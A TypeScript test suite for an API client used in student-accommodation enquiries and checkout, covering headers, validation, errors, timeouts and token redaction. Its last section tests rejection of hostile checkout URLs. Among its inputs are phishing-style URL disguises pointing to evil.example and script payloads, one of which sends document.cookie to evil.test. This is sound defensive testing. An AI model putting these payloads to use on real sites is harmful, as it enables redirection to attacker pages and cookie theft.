import { inspect } from 'node:util';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { startStallingServer } from '../test/stallingServer.js';
import { createPartnerClient } from './createPartnerClient.js';
import { PartnerApiError } from './PartnerApiError.js';
import { accessTokenProblem, partnerCredentials, UnusableAccessToken } from './transport.js';

// These tests stand in for an API that drifts or fails in ways the faithful sandbox never does; the
// contract tests in @unistay/sandbox run the client against the sandbox itself.

interface SentRequest {
  url: string;
  method: string;
  headers: Headers;
  body: unknown;
}

/** A fetch that records what is sent and answers with `respond`. */
function fakeApi(
  respond: (request: SentRequest) => Response | Promise<Response> = () => envelope({}),
) {
  const sent: SentRequest[] = [];
  const fetch = async (input: string | URL | Request, init?: RequestInit) => {
    const body = typeof init?.body === 'string' ? JSON.parse(init.body) : undefined;
    const request = {
      url: String(input),
      method: init?.method ?? 'GET',
      headers: new Headers(init?.headers),
      body,
    };
    sent.push(request);
    if (init?.signal?.aborted) throw new DOMException('aborted', 'AbortError');
    return respond(request);
  };
  return { fetch: fetch as typeof globalThis.fetch, sent };
}

const envelope = (data: unknown, status = 200) =>
  Response.json({ success: true, code: 0, locale: 'en', message: 'OK', data }, { status });

const student = {
  first_name: 'Amara',
  last_name: 'Okafor',
  email: 'amara@example.com',
  contact_number: '+44 7700 900123',
  message: 'Is the studio free in September?',
};

const resident = {
  first_name: 'Amara',
  last_name: 'Okafor',
  gender: 'female',
  email: 'amara@example.com',
  contact_number: '+447700900123',
  date_of_birth: '2004-03-27',
  first_line: '1 High Street',
  city: 'Leeds',
  postcode: 'LS1 1AA',
  country: 'gb',
  nationality: 'gb',
};
const completeBody = {
  session_token: 'cs_1',
  paying_in_instalments: false,
  resident_details: resident,
  supporting_contact_details: {
    ...resident,
    relationship: 'Mother',
    first_name: 'Ngozi',
    date_of_birth: '1975-11-02',
  },
  course_details: { university: 'Leeds', year_of_study: 'Foundation', course_title: 'Law' },
};

const onePage = {
  items: [],
  meta: {
    total: 0,
    count: 0,
    per_page: 10,
    current_page: 1,
    total_pages: 1,
    path: '/api/enquiries',
    links: [],
  },
  links: { first: null, last: null, prev: null, next: null },
};

async function failure(promise: Promise<unknown>): Promise<PartnerApiError> {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  if (!PartnerApiError.is(error))
    throw new Error(`expected a PartnerApiError, got ${String(error)}`);
  return error;
}

describe('headers', () => {
  it('sends the partner credentials, Accept, and no body type on reads', async () => {
    const api = fakeApi(() => envelope(onePage));
    const client = createPartnerClient({
      baseUrl: 'https://api.test/',
      credentials: partnerCredentials({ partnerId: 'partner-7', accessToken: 'secret-token' }),
      fetch: api.fetch,
    });
    await client.enquiries.list({ page: 2, perPage: 25, status: 'in_progress' });
    const [request] = api.sent;
    expect(request?.url).toBe(
      'https://api.test/api/enquiries?page=2&per_page=25&filter%5Bstatus%5D=in_progress',
    );
    expect(request?.method).toBe('GET');
    expect(request?.headers.get('x-api-partner-id')).toBe('partner-7');
    expect(request?.headers.get('authorization')).toBe('Bearer secret-token');
    expect(request?.headers.get('accept')).toBe('application/json');
    expect(request?.headers.has('content-type')).toBe(false);
  });

  it('uses JSON:API media types for the enquiry creations and JSON for checkout', async () => {
    const api = fakeApi(({ url }) =>
      url.endsWith('/start')
        ? envelope({
            card_provider: { public_key: 'pk', client_secret: 'cs' },
            session_token: 't',
            checkout_url: null,
          })
        : envelope({ enquiry_id: 'E1' }, 201),
    );
    const client = createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch });
    await client.enquiries.createGeneral(student);
    await client.checkout.start({
      roomId: 'room_1',
      booking_period_id: 'bp_1',
      operator_id: 'op_1',
    });
    expect(api.sent.map((r) => [r.headers.get('content-type'), r.headers.get('accept')])).toEqual([
      ['application/vnd.api+json', 'application/vnd.api+json'],
      ['application/json', 'application/json'],
    ]);
  });

  it('sets neither credential when it has none (behind a proxy)', async () => {
    const api = fakeApi(() => envelope(onePage));
    await createPartnerClient({ baseUrl: '', fetch: api.fetch }).enquiries.list();
    expect(api.sent[0]?.url).toBe('/api/enquiries');
    expect(api.sent[0]?.headers.has('authorization')).toBe(false);
    expect(api.sent[0]?.headers.has('x-api-partner-id')).toBe(false);
  });

  it('asks an access-token function at every send, and sends the locale', async () => {
    let issued = 0;
    const api = fakeApi(() => envelope(onePage));
    const client = createPartnerClient({
      baseUrl: 'https://api.test',
      credentials: partnerCredentials({
        partnerId: 'partner-7',
        accessToken: async () => `token-${++issued}`,
      }),
      locale: 'fr',
      headers: { 'X-Trace': 'abc' },
      fetch: api.fetch,
    });
    await client.enquiries.list();
    await client.enquiries.list({}, { headers: { 'X-Trace': 'def' } });
    expect(api.sent.map((r) => r.headers.get('authorization'))).toEqual([
      'Bearer token-1',
      'Bearer token-2',
    ]);
    expect(api.sent.map((r) => r.headers.get('x-trace'))).toEqual(['abc', 'def']);
    expect(api.sent[0]?.headers.get('accept-language')).toBe('fr');
  });

  it.each([
    ['an empty token', ''],
    ['a token given with "Bearer "', 'Bearer tok_live_9f8e'],
    ['a token with a newline', 'tok_live_9f8e\n'],
  ])('refuses %s with the sentence the proxy gives, sending nothing', async (_, token) => {
    const api = fakeApi(() => envelope(onePage));
    for (const accessToken of [token, async () => token]) {
      const client = createPartnerClient({
        baseUrl: 'https://api.test',
        credentials: partnerCredentials({ partnerId: 'partner-7', accessToken }),
        fetch: api.fetch,
      });
      const error = await client.enquiries.list().catch((caught: unknown) => caught);
      expect(error).toBeInstanceOf(UnusableAccessToken);
      expect((error as Error).message).toBe(accessTokenProblem(token));
    }
    expect(api.sent).toHaveLength(0);
  });
});

describe('request bodies', () => {
  it('sends metadata and additional_fields as strings holding JSON by default', async () => {
    const api = fakeApi(() => envelope({ enquiry_id: 'E1' }, 201));
    const client = createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch });
    await client.enquiries.createGeneral({
      ...student,
      metadata: { source: 'portal' },
      additional_fields: { budget: 250 },
    });
    expect(api.sent[0]?.body).toMatchObject({
      contact_number: '+447700900123',
      metadata: '{"source":"portal"}',
      additional_fields: '{"budget":250}',
    });
  });

  it('sends them as objects when told to', async () => {
    const api = fakeApi(() => envelope({ enquiry_id: 'E1' }, 201));
    const client = createPartnerClient({
      baseUrl: 'https://api.test',
      fetch: api.fetch,
      jsonFieldEncoding: 'object',
    });
    await client.enquiries.createGeneral({ ...student, metadata: { source: 'portal' } });
    expect(api.sent[0]?.body).toMatchObject({
      metadata: { source: 'portal' },
      additional_fields: {},
    });
  });

  it('converts dates of birth to the wire format chosen', async () => {
    const api = fakeApi(() => envelope({ booking_id: 'BK1' }, 201));
    await createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch }).checkout.complete({
      roomId: 'room_1',
      ...completeBody,
    });
    await createPartnerClient({
      baseUrl: 'https://api.test',
      fetch: api.fetch,
      dateOfBirthFormat: 'MM-DD-YYYY',
    }).checkout.complete({ roomId: 'room_1', ...completeBody });
    const dates = api.sent.map((r) => {
      const body = r.body as Record<string, { date_of_birth: string }>;
      return [body.resident_details?.date_of_birth, body.supporting_contact_details?.date_of_birth];
    });
    expect(dates).toEqual([
      ['27-03-2004', '02-11-1975'],
      ['03-27-2004', '11-02-1975'],
    ]);
  });
});

describe('bad input is refused before anything is sent', () => {
  const api = fakeApi();
  const client = createPartnerClient({
    baseUrl: 'https://api.test',
    credentials: partnerCredentials({ partnerId: 'p', accessToken: 't' }),
    fetch: api.fetch,
  });

  it.each([
    ['a missing enquiry id', () => client.enquiries.get({ id: '' }), { id: ['required'] }],
    [
      'a zero page',
      () => client.enquiries.list({ page: 0 }),
      { page: ['page must be a whole number, 1 to 10000'] },
    ],
    [
      'a negative page size',
      () => client.enquiries.list({ perPage: -5 }),
      { perPage: ['perPage must be a whole number, 1 to 100'] },
    ],
    [
      'a fractional page',
      () => client.enquiries.list({ page: 1.5 }),
      { page: ['page must be a whole number, 1 to 10000'] },
    ],
    [
      'a page past 10 000',
      () => client.enquiries.list({ page: 10_001 }),
      { page: ['page must be a whole number, 1 to 10000'] },
    ],
    [
      'a page of more than 100',
      () => client.enquiries.list({ perPage: 5_000_000 }),
      { perPage: ['perPage must be a whole number, 1 to 100'] },
    ],
    [
      'an unknown status filter',
      // @ts-expect-error: the type allows only known statuses; a JavaScript caller may still send one
      () => client.enquiries.list({ status: 'archived' }),
      { status: ['Status must be one of pending, in_progress, resolved, closed'] },
    ],
    [
      'a specific enquiry without its room',
      () =>
        client.enquiries.createSpecific({
          ...student,
          operator_id: 'op',
          property_id: 'prop',
          room_id: ' ',
        }),
      { room_id: ['required'] },
    ],
    [
      'a bad email and a phone number without +',
      () =>
        client.enquiries.createGeneral({
          ...student,
          email: 'amara.example.com',
          contact_number: '07700 900123',
        }),
      {
        email: ['emailFormat'],
        contact_number: ['phoneCountryCode'],
      },
    ],
    [
      'a start without a room',
      () => client.checkout.start({ roomId: '', booking_period_id: 'bp', operator_id: 'op' }),
      { roomId: ['required'] },
    ],
    [
      'a three-letter country in nested details',
      () =>
        client.checkout.complete({
          roomId: 'room_1',
          ...completeBody,
          resident_details: { ...resident, country: 'GBR' },
        }),
      { 'resident_details.country': ['countryFormat'] },
    ],
  ])('%s', async (_, call, fieldErrors) => {
    const error = await failure(call());
    expect(error.kind).toBe('validation');
    expect(error.status).toBeNull();
    expect(error.fieldErrors).toEqual(fieldErrors);
    expect(error.message).toMatch(/^Not sent: /);
    expect(api.sent).toHaveLength(0);
  });
});

describe('responses that are not the contract', () => {
  const callWith = (respond: () => Response) =>
    failure(
      createPartnerClient({
        baseUrl: 'https://api.test',
        fetch: fakeApi(respond).fetch,
      }).enquiries.list(),
    );

  it('reports a body that is not JSON', async () => {
    const error = await callWith(
      () => new Response('<html>Welcome to the hotel Wi-Fi</html>', { status: 200 }),
    );
    expect(error.kind).toBe('invalid_response');
    expect(error.message).toMatch(/not JSON \(HTTP 200\)/);
  });

  it('reports data of the wrong shape, naming the field', async () => {
    const error = await callWith(() =>
      envelope({ ...onePage, items: [{ id: 'E1', first_name: 42 }] }),
    );
    expect(error.kind).toBe('invalid_response');
    expect(error.message).toContain('data.items.0.first_name: expected string');
    expect(error.message).toContain('data.items.0.last_name: required');
  });

  it("reads metadata as JSON text, an object, PHP's [] or null; not a string holding null", async () => {
    const item = {
      id: 'E1',
      first_name: 'Amara',
      last_name: 'Okafor',
      email: 'amara@example.com',
      message: 'Hello',
      status: 'pending',
    };
    const metadataOf = async (metadata: unknown) => {
      const client = createPartnerClient({
        baseUrl: 'https://api.test',
        fetch: fakeApi(() => envelope({ item: { ...item, metadata } })).fetch,
      });
      return (await client.enquiries.get({ id: 'E1' })).metadata;
    };
    expect(await metadataOf('{"source":"portal"}')).toEqual({ source: 'portal' });
    expect(await metadataOf({ source: 'portal' })).toEqual({ source: 'portal' });
    for (const empty of [[], '[]', null, '', '  ']) expect(await metadataOf(empty)).toEqual({});
    for (const wrong of ['null', '[1]', 'not json', 42, [1]]) {
      const error = await failure(metadataOf(wrong));
      expect(error.kind).toBe('invalid_response');
      expect(error.message).toContain('data.item.metadata: expected a JSON object');
    }
  });

  it('reports a body that is not the envelope', async () => {
    const error = await callWith(() => Response.json(onePage));
    expect(error.kind).toBe('invalid_response');
    expect(error.message).toMatch(/does not match its contract: success/);
  });

  it('throws when a 2xx says success: false, taking the kind from its code', async () => {
    const error = await callWith(() =>
      Response.json({
        success: false,
        code: 422,
        locale: 'en',
        message: 'Nope',
        data: { messages: { page: ['bad'] } },
      }),
    );
    expect(error).toMatchObject({
      kind: 'validation',
      status: 200,
      message: 'Nope',
      fieldErrors: { page: ['bad'] },
    });
  });

  it('reads an HTML error page by its status', async () => {
    const error = await callWith(() => new Response('<h1>502 Bad Gateway</h1>', { status: 502 }));
    expect(error).toMatchObject({ kind: 'server', status: 502, retryable: true });
  });
});

describe('errors', () => {
  it("reads Laravel's own validation shape into fieldErrors", async () => {
    const api = fakeApi(() =>
      Response.json(
        {
          message: 'The email field is required.',
          errors: { email: ['The email field is required.'] },
        },
        { status: 422 },
      ),
    );
    const error = await failure(
      createPartnerClient({
        baseUrl: 'https://api.test',
        fetch: api.fetch,
      }).enquiries.createGeneral(student),
    );
    expect(error).toMatchObject({
      kind: 'validation',
      status: 422,
      fieldErrors: { email: ['The email field is required.'] },
    });
  });

  it('reads Retry-After given as an HTTP date', async () => {
    const later = new Date(Date.now() + 120_000).toUTCString();
    const api = fakeApi(
      () => new Response('{}', { status: 429, headers: { 'Retry-After': later } }),
    );
    const error = await failure(
      createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch }).enquiries.list(),
    );
    expect(error.kind).toBe('rate_limited');
    expect(error.retryAfterSeconds).toBeGreaterThanOrEqual(118);
    expect(error.retryAfterSeconds).toBeLessThanOrEqual(120);
  });

  it('never carries the access token, however it is inspected', async () => {
    const token = 'tok_live_9f8e7d6c5b4a';
    const failing = [
      fakeApi(() =>
        Response.json({ success: false, code: 401, message: 'Unauthenticated.' }, { status: 401 }),
      ).fetch,
      (async () => {
        throw new TypeError('fetch failed');
      }) as typeof fetch,
    ];
    for (const fetch of failing) {
      const client = createPartnerClient({
        baseUrl: 'https://api.test',
        credentials: partnerCredentials({ partnerId: 'p', accessToken: token }),
        fetch,
      });
      const error = await failure(client.enquiries.list());
      const views = [
        JSON.stringify(error),
        inspect(error, { depth: 10, showHidden: true }),
        String(error.stack),
      ];
      for (const view of views) expect(view).not.toContain(token);
    }
  });

  it('times out a request that takes too long, as an error of its own', async () => {
    const hang = (async (_: unknown, init?: RequestInit) =>
      new Promise((_resolve, reject) =>
        init?.signal?.addEventListener('abort', () => reject(new Error('aborted'))),
      )) as typeof fetch;
    const error = await failure(
      createPartnerClient({
        baseUrl: 'https://api.test',
        fetch: hang,
        timeoutMs: 30,
      }).enquiries.list(),
    );
    expect(error).toMatchObject({ kind: 'timeout', retryable: true, status: null });
  });

  it('cancels when the caller aborts mid-request, as aborted, not timed out', async () => {
    const hang = (async (_: unknown, init?: RequestInit) =>
      new Promise((_resolve, reject) =>
        init?.signal?.addEventListener('abort', () => reject(new Error('aborted'))),
      )) as typeof fetch;
    const controller = new AbortController();
    const pending = failure(
      createPartnerClient({ baseUrl: 'https://api.test', fetch: hang }).enquiries.list(
        {},
        { signal: controller.signal },
      ),
    );
    controller.abort();
    expect(await pending).toMatchObject({ kind: 'aborted', retryable: false });
  });

  it('aborts the fetch itself when the caller aborts mid-request, as aborted with time to spare', async () => {
    let fetchSignal: AbortSignal | undefined;
    let fetchStarted: () => void = () => {};
    const started = new Promise<void>((resolve) => {
      fetchStarted = resolve;
    });
    const hang = (async (_: unknown, init?: RequestInit) => {
      fetchSignal = init?.signal ?? undefined;
      fetchStarted();
      return new Promise((_resolve, reject) =>
        init?.signal?.addEventListener('abort', () => reject(new Error('aborted'))),
      );
    }) as typeof fetch;
    const controller = new AbortController();
    const pending = failure(
      createPartnerClient({
        baseUrl: 'https://api.test',
        fetch: hang,
        timeoutMs: 60_000,
      }).enquiries.list({}, { signal: controller.signal }),
    );
    await started;
    controller.abort();
    expect(await pending).toMatchObject({ kind: 'aborted', retryable: false });
    expect(fetchSignal?.aborted).toBe(true);
  });

  it('keeps the deadline while the body is read: a body that stops arriving times out', async () => {
    const server = await startStallingServer();
    try {
      const error = await failure(
        createPartnerClient({ baseUrl: server.url, timeoutMs: 100 }).enquiries.list(),
      );
      expect(error).toMatchObject({ kind: 'timeout', status: null });
    } finally {
      await server.stop();
    }
  });

  it('ends a hanging access-token function at the deadline, sending nothing', async () => {
    const api = fakeApi();
    const error = await failure(
      createPartnerClient({
        baseUrl: 'https://api.test',
        credentials: partnerCredentials({
          partnerId: 'partner-7',
          accessToken: () => new Promise<string>(() => {}),
        }),
        fetch: api.fetch,
        timeoutMs: 30,
      }).enquiries.list(),
    );
    expect(error).toMatchObject({ kind: 'timeout', retryable: true });
    expect(api.sent).toHaveLength(0);
  });

  it('turns the timeout off for 0 or Infinity, instead of failing', async () => {
    for (const timeoutMs of [0, Number.POSITIVE_INFINITY]) {
      const api = fakeApi(() => envelope(onePage));
      const client = createPartnerClient({
        baseUrl: 'https://api.test',
        fetch: api.fetch,
        timeoutMs,
      });
      await expect(client.enquiries.list()).resolves.toMatchObject({ items: [] });
    }
  });

  it('sends nothing for a signal already aborted', async () => {
    const api = fakeApi();
    const error = await failure(
      createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch }).enquiries.list(
        {},
        { signal: AbortSignal.abort() },
      ),
    );
    expect(error).toMatchObject({ kind: 'aborted', retryable: false });
    expect(api.sent).toHaveLength(0);
  });
});

describe('completing checkout', () => {
  it('resolves a replay as already completed, with the booking the API names', async () => {
    const api = fakeApi(() =>
      Response.json(
        {
          success: false,
          code: 409,
          locale: 'en',
          message: 'api.booking_already_completed',
          data: { booking_id: 'BK-1' },
        },
        { status: 409 },
      ),
    );
    const booking = await createPartnerClient({
      baseUrl: 'https://api.test',
      fetch: api.fetch,
    }).checkout.complete({ roomId: 'room_1', ...completeBody });
    expect(booking).toEqual({ booking_id: 'BK-1', already_completed: true });
  });

  it('resolves a replay that names no booking with a null booking_id', async () => {
    const api = fakeApi(() =>
      Response.json({ success: false, message: 'api.booking_already_completed' }, { status: 422 }),
    );
    const booking = await createPartnerClient({
      baseUrl: 'https://api.test',
      fetch: api.fetch,
    }).checkout.complete({ roomId: 'room_1', ...completeBody });
    expect(booking).toEqual({ booking_id: null, already_completed: true });
  });

  it('recognises the replay by its key inside a longer message, with data null', async () => {
    const api = fakeApi(() =>
      Response.json(
        {
          success: false,
          code: 400,
          locale: 'en',
          message: 'Error: api.booking_already_completed',
          data: null,
        },
        { status: 400 },
      ),
    );
    const booking = await createPartnerClient({
      baseUrl: 'https://api.test',
      fetch: api.fetch,
    }).checkout.complete({ roomId: 'room_1', ...completeBody });
    expect(booking).toEqual({ booking_id: null, already_completed: true });
  });
});

describe('reading pages as the public API serves them', () => {
  it('reads a page without meta.path or meta.links, keeping what is there', async () => {
    const { path: _path, links: _links, ...meta } = onePage.meta;
    const api = fakeApi(() =>
      envelope({ ...onePage, meta: { ...meta, total: 3, count: 3 }, items: [] }),
    );

    const page = await createPartnerClient({
      baseUrl: 'https://api.test',
      fetch: api.fetch,
    }).enquiries.list();

    expect(page.meta).toEqual({ ...meta, total: 3, count: 3, links: [] });
    expect(page.meta.path).toBeUndefined();
  });
});

describe('where a student may be sent', () => {
  const LOOPBACK = ['localhost', '127.0.0.1', '[::1]'];
  /**
   * What the URL parser reads differently from a glance (and a pattern): user info before the
   * host, backslashes, tabs and newlines it drops, percent-encoding, IPv4's other forms, IDN.
   */
  const disguise = fc.constantFrom(
    (host: string) => `http://${host}:80@evil.example/pay`,
    (host: string) => `http://${host}:@evil.example/pay`,
    (host: string) => `http://${host}@evil.example/pay`,
    (host: string) => `https://${host}:1@evil.example/pay`,
    (host: string) => `http://${host}\\@evil.example/pay`,
    (host: string) => `http:\\\\${host}\\pay`,
    (host: string) => `ht\ttp://${host}/pay`,
    (host: string) => `http://${host}\n.evil.example/pay`,
    (host: string) => `http://${host}%2e.evil.example/pay`,
    (host: string) => `http://${host}.evil.example/pay`,
    (host: string) => `http://evil.example#@${host}/pay`,
    (host: string) => `http://evil.example?@${host}/pay`,
    (host: string) => ` http://${host}/pay`,
  );
  /** Addresses an upstream might name: web ones, loopback ones, and the ones that run code. */
  const address = fc.oneof(
    fc.webUrl({
      validSchemes: ['https', 'http'],
      authoritySettings: {
        withIPv4: true,
        withIPv6: true,
        withIPv4Extended: true,
        withPort: true,
        withUserInfo: true,
      },
    }),
    fc.constantFrom(...LOOPBACK).map((host) => `http://${host}:4010/pay`),
    fc
      .tuple(disguise, fc.constantFrom(...LOOPBACK, '2130706433', '0x7f.1', 'bücher.example'))
      .map(([disguised, host]) => disguised(host)),
    fc.constantFrom(
      'javascript:alert(document.cookie)',
      'JavaScript:fetch("//evil.test?"+document.cookie)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      '//evil.test/pay',
      'ftp://files.test/pay',
    ),
    fc.string(),
  );

  /** A checkout started where the API answers with `checkoutUrl`. */
  function startAnswered(checkoutUrl: string) {
    const api = fakeApi(() =>
      envelope(
        {
          card_provider: { public_key: 'pk', client_secret: 'pi_1_secret_2' },
          session_token: 'cs_1',
          checkout_url: checkoutUrl,
        },
        201,
      ),
    );
    return createPartnerClient({ baseUrl: 'https://api.test', fetch: api.fetch }).checkout.start({
      roomId: 'room_1',
      booking_period_id: 'bp_1',
      operator_id: 'op_1',
    });
  }

  it('starts a checkout only with a checkout_url that is https, or http on this machine (generated)', async () => {
    await fc.assert(
      fc.asyncProperty(address, async (checkoutUrl) => {
        const started = await startAnswered(checkoutUrl).catch((error: Error) => error);
        if (started instanceof Error) {
          expect(started).toMatchObject({ kind: 'invalid_response' });
          return;
        }
        // As the browser reads it when the student is sent there.
        const { protocol, hostname, username, password } = new URL(started.checkout_url ?? '');
        expect(username + password).toBe('');
        expect(
          protocol === 'https:' ||
            (protocol === 'http:' && (LOOPBACK.includes(hostname) || hostname.startsWith('127.'))),
        ).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it('refuses a checkout_url whose user info hides the host it goes to', async () => {
    for (const checkoutUrl of [
      'http://localhost:80@evil.example/pay',
      'http://127.0.0.1:@evil.example/pay',
      'http://[::1]:1@evil.example/pay',
      'https://bank.example@evil.example/pay',
    ]) {
      const started = startAnswered(checkoutUrl);
      await expect(started, checkoutUrl).rejects.toMatchObject({ kind: 'invalid_response' });
    }
  });
});
